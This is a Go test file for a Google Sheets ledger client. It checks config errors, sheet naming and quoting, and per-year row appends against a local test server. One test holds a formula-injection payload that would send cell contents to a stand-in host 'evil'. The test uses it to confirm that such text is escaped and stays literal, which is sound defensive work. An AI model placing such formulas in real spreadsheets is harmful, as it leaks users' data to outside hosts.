package google

import (
	"context"
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"hamyon/internal/core"
	"hamyon/internal/log"
	ports "hamyon/internal/sheets"

	goption "google.golang.org/api/option"
)

func quietLogger() *log.Logger {
	return log.New(log.Config{Level: slog.LevelError, Output: io.Discard})
}

func TestNew_MissingSpreadsheetID(t *testing.T) {
	_, err := New(context.Background(), Config{}, quietLogger())
	if err == nil || err.Error() != "missing GOOGLE_SPREADSHEET_ID" {
		t.Fatalf("unexpected error: %v", err)
	}
}

func TestNew_MissingCredentials(t *testing.T) {
	_, err := New(context.Background(), Config{SpreadsheetID: "sheet"}, quietLogger())
	if err == nil || !strings.Contains(err.Error(), "credentials") {
		t.Fatalf("expected credentials error, got %v", err)
	}
}

func TestYearPrefixedName(t *testing.T) {
	tests := []struct {
		base string
		year int
		want string
	}{
		{"Ledger", 2025, "2025 Ledger"},
		{"  Ledger ", 2026, "2026 Ledger"},
	}
	for _, tt := range tests {
		if got := yearPrefixedName(tt.base, tt.year); got != tt.want {
			t.Errorf("yearPrefixedName(%q, %d) = %q, want %q", tt.base, tt.year, got, tt.want)
		}
	}
	if got := quoteSheet("Bob's 2025"); got != "'Bob''s 2025'" {
		t.Errorf("quoteSheet = %q", got)
	}
}

func TestAppendRows(t *testing.T) {
	var (
		mu    sync.Mutex
		paths []string
		rows  int
	)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var body struct {
			Values [][]any `json:"values"`
		}
		_ = json.NewDecoder(r.Body).Decode(&body)
		mu.Lock()
		paths = append(paths, r.URL.Path)
		rows += len(body.Values)
		mu.Unlock()
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, `{"updates":{"updatedRange":"Ledger!A2:L3"}}`)
	}))
	defer srv.Close()

	c, err := New(context.Background(), Config{SpreadsheetID: "sheet-id"}, quietLogger(),
		goption.WithEndpoint(srv.URL+"/"),
		goption.WithoutAuthentication(),
		goption.WithHTTPClient(srv.Client()),
	)
	if err != nil {
		t.Fatalf("New() error = %v", err)
	}

	in := []ports.LedgerRow{
		{Kind: "transaction.created", OccurredAt: time.Date(2025, 12, 31, 10, 0, 0, 0, time.UTC), Amount: core.Money{Cents: 100}},
		{Kind: "transaction.created", OccurredAt: time.Date(2026, 1, 1, 10, 0, 0, 0, time.UTC), Amount: core.Money{Cents: 200}},
		{Kind: "transfer.created", OccurredAt: time.Date(2026, 1, 2, 10, 0, 0, 0, time.UTC), Amount: core.Money{Cents: 300}},
	}
	ref, err := c.AppendRows(context.Background(), in)
	if err != nil {
		t.Fatalf("AppendRows() error = %v", err)
	}
	if ref == "" {
		t.Fatal("expected a range reference")
	}

	mu.Lock()
	defer mu.Unlock()
	if len(paths) != 2 {
		t.Fatalf("expected one append per year, got %d: %v", len(paths), paths)
	}
	if !strings.Contains(paths[0], "2025 Ledger") || !strings.Contains(paths[1], "2026 Ledger") {
		t.Fatalf("unexpected ranges %v", paths)
	}
	if rows != 3 {
		t.Fatalf("rows sent = %d, want 3", rows)
	}
}

func TestAppendRows_NoService(t *testing.T) {
	c := &Client{svc: nil}
	if _, err := c.AppendRows(context.Background(), nil); err == nil {
		t.Fatal("expected error without service")
	}
}

func TestAppendRows_FormulaTextStaysText(t *testing.T) {
	var (
		mu     sync.Mutex
		option string
		cells  [][]any
	)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var body struct {
			Values [][]any `json:"values"`
		}
		_ = json.NewDecoder(r.Body).Decode(&body)
		mu.Lock()
		option = r.URL.Query().Get("valueInputOption")
		cells = body.Values
		mu.Unlock()
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, `{"updates":{"updatedRange":"Ledger!A2:L2"}}`)
	}))
	defer srv.Close()

	c, err := New(context.Background(), Config{SpreadsheetID: "sheet-id"}, quietLogger(),
		goption.WithEndpoint(srv.URL+"/"),
		goption.WithoutAuthentication(),
		goption.WithHTTPClient(srv.Client()),
	)
	if err != nil {
		t.Fatalf("New() error = %v", err)
	}

	desc := `=IMPORTXML("http://evil/?"&A1,"//a")`
	_, err = c.AppendRows(context.Background(), []ports.LedgerRow{{
		Kind:        "transaction.created",
		OccurredAt:  time.Date(2026, 3, 1, 9, 0, 0, 0, time.UTC),
		Category:    "@Food",
		Description: desc,
		Amount:      core.Money{Cents: 500},
	}})
	if err != nil {
		t.Fatalf("AppendRows() error = %v", err)
	}

	mu.Lock()
	defer mu.Unlock()
	if option != "USER_ENTERED" {
		t.Fatalf("valueInputOption = %q", option)
	}
	if len(cells) != 1 {
		t.Fatalf("rows sent = %d, want 1", len(cells))
	}
	if got := cells[0][10]; got != "'"+desc {
		t.Fatalf("description cell = %v, want %q", got, "'"+desc)
	}
	if got := cells[0][7]; got != "'@Food" {
		t.Fatalf("category cell = %v", got)
	}
}
